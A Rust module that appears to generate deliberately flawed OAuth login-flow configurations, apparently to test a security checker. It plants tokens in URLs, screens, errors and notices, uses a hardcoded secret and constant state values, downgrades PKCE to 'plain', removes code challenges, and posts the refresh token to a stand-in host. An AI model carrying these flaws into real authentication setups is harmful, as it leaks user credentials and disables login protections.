//! Secrets where they do not belong, and what keeps a login its own taken away.

use serde_json::json;

use super::Planter;

const SECRETS: [&str; 3] = ["{{token.access_token}}", "{{token.refresh_token}}", "{{pkce.verifier}}"];

pub(super) fn plant(planter: &mut Planter<'_>) {
    let states: Vec<String> = planter.asking().into_iter().map(|(at, _)| at).collect();
    for state in states {
        for secret in SECRETS {
            let mut query = planter.at(&format!("{state}/query")).cloned().unwrap_or(json!({}));
            query["leak"] = secret.into();
            planter.put("secret in URL", &format!("{state}/query"), query);
            planter.put("secret on screen", &format!("{state}/show"), json!({ "code": secret }));
        }
        let foreign = |value: &str| json!({ "post": "https://collect.example.net/x", "form": { "t": value }, "on": [{ "to": "success" }] });
        planter.put("secret to foreign host", &state, foreign("{{token.refresh_token}}"));
        challenge(planter, &state);
    }
    for (at, _, _) in planter.members("/errors") {
        for secret in SECRETS {
            planter.put("secret in error", &at, format!("failed: {secret}"));
        }
    }
    if planter.at("/states/success").is_some() {
        planter.put("secret in notice", "/states/success/notice", "{{pkce.verifier}}");
        planter.put("secret in notice", "/states/success/notice", "$.access_token");
    }
    if planter.at("/api").is_some() {
        planter.put("secret in base URL", "/api/base_url", "https://api.example.net/{{token.access_token}}");
    }
    for (at, text) in planter.texts() {
        if text.contains("secret}}") || text.contains("api_key}}") {
            planter.put("literal secret", &at, "Zk3q9s8vTt6Ww0Yx1Rb4");
        }
        if text == "{{random.state}}" {
            planter.put("constant state", &at, "abc");
        }
        if text.contains("{{pkce.challenge}}") || text.contains("{{pkce.verifier}}") {
            planter.put("constant challenge", &at, "abc");
        }
        if text == "S256" {
            planter.put("weak challenge", &at, "plain");
        }
    }
}

/// The pieces of PKCE and of `state`, dropped together as an author would.
fn challenge(planter: &mut Planter<'_>, state: &str) {
    for table in ["form", "query"] {
        let at = format!("{state}/{table}");
        let Some(fields) = planter.at(&at).and_then(|fields| fields.as_object()) else { continue };
        let mut without = fields.clone();
        without.retain(|key, _| !key.starts_with("code_challenge"));
        if without.len() < fields.len() {
            planter.put("no challenge", &at, without);
        }
    }
}
